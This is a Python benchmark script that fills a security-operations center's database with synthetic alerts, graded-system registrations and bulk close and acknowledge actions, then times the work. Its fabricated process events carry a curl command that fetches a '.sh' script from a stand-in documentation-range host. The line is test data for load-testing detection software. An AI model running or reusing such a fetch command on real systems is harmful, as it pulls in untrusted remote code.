"""Fill a center's state database: ``python -m bench.console_data DATA [--alerts N] [--groups N]``.

DATA is the data folder of a center that was made (``liuhe center run --init``), or any folder. Alerts go
through the store's own commit, built by ``claim`` from events of plausible shape, for the rules the product
ships, over units, hosts, addresses and people; systems and assets are registered so that rows have badges.
Part of the groups is then taken and closed by acts, as a shift would have done. Prints one JSON line.
"""

import argparse
import json
import random  # noqa: TID251 - seeded, so that every fill is alike
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy import Engine

from compliance.asset_store import AssetStore
from compliance.registry import Asset, GradedSystem
from compliance.registry_desk import standard_units
from compliance.registry_store import RegistryStore
from crypto.words import Words
from detection.alert import SEVERITIES, Alert, Claim, Match, Severity, claim
from detection.store.act import Act
from detection.store.act_store import AlertActs
from detection.store.alert_store import AlertStore
from detection.store.group_query import GroupFilter
from detection.store.state import state_of
from rules import ROOT
from sensors.event import LogSource, Observation, stamp
from soc_api.migrate import upgrade
from soc_api.rule_set import shipped_rules

BATCH = 5_000
SEED = 20_261_122
SPAN = timedelta(days=30)
WEIGHTS = (10, 30, 35, 20, 5)  # of the severities, informational first
TAKEN, CLOSED = 0.05, 0.25  # of the groups
LOGSOURCE = LogSource(product="linux", category="process_creation")
SYSTEMS = (
    "政务服务一体化平台",
    "电子公文交换系统",
    "公共数据共享平台",
    "不动产登记系统",
    "医保结算平台",
    "门户网站群",
)


def rules_said(chance: random.Random) -> list[Claim]:
    """A claim for each rule the product ships, with a severity of the spread above."""
    found = [
        Claim(
            rule=rule.id,
            detector="sigma",
            title=rule.title,
            severity=chance.choices(SEVERITIES, WEIGHTS)[0],
            attack=rule.attack,
            clauses=rule.clauses,
        )
        for rule in shipped_rules(ROOT / "sigma").rules
    ]
    special: list[tuple[str, str, str, Severity]] = [
        ("liuhe-scan", "端口扫描", "Port scan", "medium"),
        ("liuhe-brute-force", "口令猜测", "Password guessing", "high"),
        ("liuhe-beacon", "疑似回连", "Possible beacon", "high"),
    ]
    found += [Claim(rule=r, detector="special", title=Words(zh, en), severity=s) for r, zh, en, s in special]
    return found


def registered(engine: Engine, units: list[str], hosts: int, now: datetime) -> None:
    """A few graded systems with hosts of theirs, so that rows have badges; what is there stays."""
    registry, assets = RegistryStore(engine), AssetStore(engine)
    for number, name in enumerate(SYSTEMS):
        system = f"bench-{number}"
        if registry.has(system):
            continue
        level = 3 if number < 4 else 2
        unit = units[number % len(units)]
        grade = f"S{level}A{level}G{level}"
        entry = GradedSystem(id=system, unit=unit, name=name, level=level, grade=grade, critical=number == 0)
        registry.put_system(entry, now, "system:bench")
        for host in range(number, min(hosts, 120), len(SYSTEMS)):
            asset = Asset(system=system, name=f"web-{host:04}", address=f"10.{host % 200}.0.{host % 250 + 1}")
            assets.put_asset(asset, now, "system:bench")


def raised(said: list[Claim], units: list[str], count: int, groups: int, end: datetime) -> Iterator[Alert]:
    """Alerts in the order of time; few groups have many, most have few."""
    chance = random.Random(SEED)
    step = SPAN / count
    for number in range(count):
        group = number % groups if number < groups else int(groups * chance.random() ** 3)
        picked = random.Random(group)
        one, unit, host = picked.choice(said), picked.choice(units), f"web-{picked.randrange(2_000):04}"
        kind = picked.random()
        user, source = (
            f"op{picked.randrange(300)}",
            f"10.{picked.randrange(200)}.0.{picked.randrange(1, 250)}",
        )
        entity = f"host:{host}-{group}" if kind < 0.5 else f"user:{user}-{group}@{host}"
        entity = f"source:{source}" if kind > 0.8 else entity
        line = f"/usr/bin/curl -s http://198.51.100.{group % 250}/{group}.sh"
        seen = Observation(
            time=end - SPAN + step * (number + 1),
            logsource=LOGSOURCE,
            fields={
                "event.dataset": "process.start",
                "host.name": host,
                "process.command_line": line,
                "process.pid": number % 100_000,
                "user.name": user,
                "source.ip": source,
            },
            native={"Image": "/usr/bin/curl", "CommandLine": line},
        )
        event = stamp(seen, unit=unit, sensor=f"sensor-{host}", epoch=1, sequence=number + 1)
        match = Match(event=event.id, field="process.command_line", value=line, selection="selection")
        reason = Words(f"{host} 上 {user} 执行了 {line}", f"{user} ran {line} on {host}")
        yield claim(
            one,
            entity=entity or f"user:{user}-{group}@{host}",
            reason=reason,
            events=(event,),
            matched=(match,),
        )


def fill(engine: Engine, count: int, groups: int, now: datetime) -> dict[str, float]:
    """Commit, judge and tell how long it took."""
    store = AlertStore(engine)
    registry = RegistryStore(engine)
    registry.plant(standard_units(ROOT / "grading"), now)
    units = [unit.code for unit in registry.tree().units()][:40]
    registered(engine, units, 2_000, now)
    begun, batch = time.perf_counter(), list[Alert]()
    for alert in raised(rules_said(random.Random(SEED)), units, count, groups, now):
        batch.append(alert)
        if len(batch) == BATCH:
            store.commit(batch, [], None, alert.time)
            batch = []
    store.commit(batch, [], None, now)
    committed = time.perf_counter() - begun
    acts, chance = AlertActs(engine), random.Random(SEED)
    begun = time.perf_counter()
    rows = store.page(state="new", limit=1).total
    for share, act in (
        (CLOSED, Act(action="close", classification="false_positive", reason="巡检脚本,已核对")),
        (TAKEN, Act(action="acknowledge")),
    ):
        oldest = now - SPAN * (1 - share)
        wanted = GroupFilter(state="new", until=oldest if act.action == "close" else None, folded=True)
        if act.action == "acknowledge":
            wanted = GroupFilter(state="new", severity=chance.choice(["high", "critical"]), folded=True)
        record = acts.begin(act, wanted, "user:bench", now)
        while record.state == "running":
            acts.work(now)
            record = acts.record(record.id)
    return {
        "alerts": count,
        "groups": rows,
        "seconds_commit": round(committed, 1),
        "alerts_per_second": round(count / committed),
        "seconds_acts": round(time.perf_counter() - begun, 1),
    }


def main() -> None:
    """Fill and tell."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("data", type=Path)
    parser.add_argument("--alerts", type=int, default=100_000)
    parser.add_argument("--groups", type=int, default=0, help="default: one for ten alerts")
    arguments = parser.parse_args()
    arguments.data.mkdir(parents=True, exist_ok=True)
    engine = state_of(arguments.data)
    upgrade(engine)
    count = max(arguments.alerts, 1)
    print(json.dumps(fill(engine, count, arguments.groups or max(count // 10, 1), datetime.now(UTC))))
    engine.dispose()


if __name__ == "__main__":
    main()
